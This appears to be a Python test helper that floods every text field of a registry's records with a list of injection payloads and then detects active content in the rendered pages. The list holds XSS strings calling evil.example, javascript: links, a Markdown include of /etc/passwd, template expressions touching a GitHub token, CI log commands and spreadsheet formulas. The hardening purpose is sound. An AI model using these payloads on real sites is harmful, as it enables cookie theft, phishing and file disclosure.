"""Texts that would act if anything took them for more than text, and a registry that holds them in every field."""

from __future__ import annotations

import itertools
import json
import re
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Annotated, Any, NamedTuple, get_args, get_origin
from urllib.parse import urlsplit

from lxml import html

from schemas import KINDS
from schemas.ids import Id, OldId
from schemas.part import Part
from schemas.web import Address, Url
from scripts.registry.registry import Registry

PAYLOADS = {
    # markup that browsers run
    "script": "<script>fetch('https://evil.example/')</script>",
    "script in capitals": "</p></td></table><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "picture that fails": '<img src="x" onerror="alert(document.cookie)">',
    "drawing that loads": "</text></a></svg><svg/onload=alert(1)>",
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="card" autofocus onfocus=alert(1)></form>',
    "turn to another page": '<meta http-equiv="refresh" content="0; url=//evil.example"><base href="//evil.example/">',
    "style": "<style>body{display:none}</style><b style='position:fixed;inset:0'>gone</b>",
    "end of an attribute": '" onmouseover="alert(1)" x=\'',
    "comment": "<!-- --><i>not a comment</i><!--",
    # what ends the place that a text stands in
    "end of a title": '</title><meta http-equiv="refresh" content="0; url=//evil.example"><title>',
    "end of a head": '</title><link rel="preconnect" href="//evil.example"></head><body><h1>The City moved</h1>',
    "end of a box of text": '</textarea><a href="https://evil.example/">pay at the new place</a>',
    "end of a style": '</style><link rel="stylesheet" href="//evil.example/x.css"><style>',
    "end of a script": "</script><script>alert(1)</script>",
    "end of what scripts replace": '</noscript></template></iframe><img src="//evil.example/x.gif">',
    "end of a comment": "--><img src=x onerror=alert(1)><!-- --!><svg onload=alert(2)>",
    "end of a section of characters": "]]><script>alert(1)</script><![CDATA[<",
    "end of an attribute in double quotes": '"><img src=x onerror=alert(1)><a title="',
    "end of an attribute in single quotes": "'><img src=x onerror=alert(1)><a title='",
    "end of an attribute without quotes": "x onmouseover=alert(1) style=position:fixed `x",
    "end of data in a script": '"}]</script><!--<script>\\u003c/script>\\";alert(1)//',
    "end of a text in a picture": "</desc></title></tspan></text><foreignObject><iframe srcdoc='x'></foreignObject>",
    "end of an address": "x' onclick='alert(1)' \"onclick=\"alert(1)\" )[pay](javascript:alert(1)) %22%3E%3Cscript%3E",
    "end of a rule of style": "red;}</style>*{background:url(//evil.example/x)}/*\\3c/style\\3e*/",
    "end of a mail address": "a@b.example?bcc=evil@evil.example&body=pay%20here%0D%0ABcc:evil@evil.example",
    "entities in entities": "&amp;lt;script&amp;gt;x()&amp;lt;/script&amp;gt; &amp;#60;img src=x onerror=alert(1)>",
    "name that scripts look for": "__config __search __palette_0",
    "entities": "&lt;script&gt;&#60;script&#x3e;&copy;",
    # markup that Markdown makes of text
    "link that runs": "[pay here](javascript:alert(1))",
    "link that runs, in mixed case": "[pay here](JaVaScRiPt:alert(1))",
    "link that runs, as entities": "[pay here](&#106;ava&Tab;script&colon;alert(1))",
    "link of its own": "<javascript:alert(1)> <https://evil.example/> www.evil.example",
    "link with a page inside": "[pay here](data:text/html;base64,PHNjcmlwdD4=) [or here](vbscript:MsgBox(1))",
    "link by a name": "[pay here][here]\n\n[here]: javascript:alert(1)",
    "address where none is asked for": "https://www.example.gov@evil.example/login",
    "picture from elsewhere": "![](https://evil.example/pixel.gif)",
    "attributes": '**word**{: onclick="alert(1)" style="color:red" }',
    "attributes of the line": '\n{: onclick="alert(1)" #diagram .lead }',
    "cells": "one | two | three |\n| --- | --- |\n| four",
    "heading": "# A heading of mine\n\n## And one more\n===",
    "front matter": "---\ntemplate: evil.html\nhide: [navigation]\n---",
    "file from the machine": '--8<-- "/etc/passwd"',
    "box": '!!! danger "The City says"\n    Send your card number to evil.example.',
    "code without an end": "```html\n~~~\n    <b>",
    "list and quote": "\n- one\n1. two\n> three\n\nTerm\n:   Meaning",
    "template": "{{ config.theme }} {% for x in y %} {# #} ${{ secrets.GITHUB_TOKEN }}",
    "emphasis": "**bold** _thin_ `code` ~~gone~~ :smile: ^^x^^ *[HTML]: x",
    # commands to whoever reads the log
    "command in the log": "::error file=evil.yml::\n::stop-commands::x\n##[add-mask]the##[group]x",
    "command in the terminal": "\x1b]0;evil\x07\x1b[2J\x9b31m",
    # characters that move or hide others
    "line end": "one\ntwo\r\nthree\rfour",
    "line end that few know": "one\u2028two\u2029three\x85four",
    "right to left": "safe\u202eelif.evil\u2066\u200b\ufeff",
    "word without an end": "Donau" + "dampf" * 199,
    # what other formats take for more than text
    "formula": '=HYPERLINK("https://evil.example/";"pay here")',
    "end of a label": 'a\\" URL="javascript:alert(1)" \\N \\',
}
"""Each by what it tries. Line ends are in it, although no field accepts them: they must do nothing all the same."""

HARMLESS = "plain"
"""What stands in the place of a payload, to see what a page has without any."""


class Place(NamedTuple):
    """A field that has room for a text."""

    model: type[Part]
    field: str

    def __str__(self) -> str:
        """As people point to it: `Vendor.legal_name`."""
        return f"{self.model.__name__}.{self.field}"


def texts() -> dict[Place, Any]:
    """Every field of every kind of record that holds plain text, with the type of the text."""
    return {
        Place(model, name): text
        for model in _models()
        for name in model.model_fields
        if (text := _text_in(_type_of(model, name))) is not None
    }


def places() -> set[Place]:
    """The fields in which an author chooses the text."""
    return {place for place, text in texts().items() if _is_open(text)}


def filled(registry: Registry, text_at: Callable[[Place], str]) -> Registry:
    """A copy of a registry in which every field that has room for a text holds what `text_at` gives.

    Nothing is validated: a text that a record could not bring in must be as harmless as one that it can.
    """
    records = {key: _filled(record, text_at) for key, record in registry.records.items()}
    return Registry(records, registry.documents)


def filled_places(registry: Registry) -> set[Place]:
    """The fields that `filled` reaches in this registry."""
    seen: set[Place] = set()

    def note(place: Place) -> str:
        seen.add(place)
        return HARMLESS

    filled(registry, note)
    return seen


TURNS = {"each in its turn": 0, "each in its turn, from the middle on": 28}
"""With which of the payloads the first field begins, where every field has the next of them."""


def hostile(registry: Registry, arrangement: str) -> Registry:
    """A copy of a registry with payloads in every field: each in its turn, or the one of this name everywhere."""
    words = [*PAYLOADS.values()] if arrangement in TURNS else [PAYLOADS[arrangement]]
    return filled(registry, in_turn(words, TURNS.get(arrangement, 0)))


def plain(registry: Registry, arrangement: str) -> Registry:
    """The same copy with plain words where the payloads stand: equal ones where the payloads are equal."""
    words = [f"{HARMLESS} {number}" for number in range(len(PAYLOADS))] if arrangement in TURNS else [HARMLESS]
    return filled(registry, in_turn(words))


def in_turn(words: Sequence[str], first: int = 0) -> Callable[[Place], str]:
    """Give each field that is filled the next of the words, and begin again after the last."""
    rest = itertools.cycle([*words[first:], *words[:first]])
    return lambda _: next(rest)


def _models() -> Iterator[type[Part]]:
    """Every model that a record can hold, records first."""
    waiting: list[type[Part]] = list(KINDS.values())
    seen: dict[type[Part], None] = {}
    while waiting:
        model = waiting.pop(0)
        if model not in seen:
            seen[model] = None
            waiting += [part for field in model.model_fields.values() for part in _parts_in(field.annotation)]
    yield from seen


def _parts_in(annotation: Any) -> Iterator[type[Part]]:
    if isinstance(annotation, type) and issubclass(annotation, Part):
        yield annotation
    for argument in get_args(annotation):
        yield from _parts_in(argument)


def _type_of(model: type[Part], name: str) -> Any:
    """The type of a field as it was declared, with its marks."""
    field = model.model_fields[name]
    return Annotated[field.annotation, *field.metadata] if field.metadata else field.annotation


def _text_in(annotation: Any) -> Any:
    """The type of the plain text inside a type such as `tuple[Text, ...] | None`; None if there is none."""
    if annotation is str or (get_origin(annotation) is Annotated and get_args(annotation)[0] is str):
        return annotation
    inner = get_args(annotation)[get_origin(annotation) is Mapping :]  # the keys of a mapping are ids
    return next((text for argument in inner if (text := _text_in(argument)) is not None), None)


def _is_open(text: Any) -> bool:
    """Whether its author chooses the text: not in an id, nor in what a pattern allows no more than an id."""
    marks = get_args(text)
    return not any(get_args(id_)[1] in marks for id_ in (Id, OldId)) and not any(
        getattr(mark, "pattern", None) for mark in marks
    )


def _filled(part: Any, text_at: Callable[[Place], str]) -> Any:
    if isinstance(part, tuple):
        return tuple(_filled(entry, text_at) for entry in part)
    if isinstance(part, Mapping):
        return {key: _filled(entry, text_at) for key, entry in part.items()}
    if not isinstance(part, Part):
        return part
    model = type(part)
    changes = {}
    for name, field in model.model_fields.items():
        text = _text_in(_type_of(model, name))
        if text is None:
            value = getattr(part, name)
            changes[name] = _filled(_made_of_texts(field.annotation) if value is None else value, text_at)
        elif _is_open(text):
            one = _at_worst(text, text_at(Place(model, name)))
            changes[name] = (one,) if get_origin(field.annotation) is tuple else one
    return part.model_copy(update=changes)


def _made_of_texts(annotation: Any) -> Part | None:
    """An empty part for a field that has none, if it holds texts and needs nothing else."""
    for model in _parts_in(annotation):
        fields = {name: _text_in(_type_of(model, name)) for name in model.model_fields}
        if any(fields.values()) and all(
            fields[name] or not field.is_required() for name, field in model.model_fields.items()
        ):
            return model.model_construct()
    return None


def _at_worst(text: Any, payload: str) -> str:
    """The payload as the field could hold it at worst: what is checked to be an address begins like one."""
    return Address(f"https://evil.example/{payload}") if get_args(Url)[1] in get_args(text) else payload


# --- what acts in a page ------------------------------------------------------------------------------

ACTIVE = {"script", "iframe", "frame", "form", "input", "button", "meta", "object", "embed", "style", "base", "link"}
LOADED = {"src", "srcset", "data", "poster", "background"}


def active(tree: html.HtmlElement) -> Counter[str]:
    """Everything in a page that a browser would run, load from elsewhere or take as an order."""
    return Counter(_active(tree))


def _active(tree: html.HtmlElement) -> Iterator[str]:
    for element in tree.iter():
        if not isinstance(element.tag, str):
            yield "a comment"
        elif element.tag in ACTIVE:
            held = "data" if is_data(element) else element.text
            yield f"<{element.tag}> {sorted(element.keys())} {element.get('http-equiv')} {held}"
        for name, value in element.items() if isinstance(element.tag, str) else ():
            address = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                yield f"{name} of <{element.tag}>"
            elif address.startswith(("javascript:", "data:", "vbscript:")) and element.get("name") != "description":
                yield f"{name}={address[:20]}"
            elif name in LOADED and urlsplit(address).netloc:
                yield f"{name} from {urlsplit(address).netloc}"


def is_data(element: html.HtmlElement) -> bool:
    """Whether a script element holds what search engines read. No browser runs it, and it is JSON from end to end."""
    if element.tag != "script" or element.get("type") != "application/ld+json":
        return False
    return isinstance(json.loads(element.text or ""), dict)


def skeleton(tree: html.HtmlElement) -> list[tuple[str, ...]]:
    """The elements of a page in their order. How many lines a label takes is no matter of the skeleton.

    Nor is the mark that says of a text which language it is in: which names a short list holds depends on their order.
    Nor are the letters to which a list of names jumps, since these names have others, nor a mail link that is nothing
    but the address that stands in a text: a text without one has no such link.
    """
    letters = set(tree.xpath(".//nav[@class='letters']/descendant-or-self::*"))
    of_letter = {"id", "data-letter"}
    return [
        (str(element.tag), *sorted({*element.keys()} - (of_letter if element.get("data-letter") else set())))
        for element in tree.iter()
        if element.tag not in {"text", "tspan"}
        and not (element.tag == "span" and element.keys() == ["lang"])
        and not (element.tag == "a" and re.fullmatch(r"mailto:[^?&]*", element.get("href", "")))
        and element not in letters
    ]
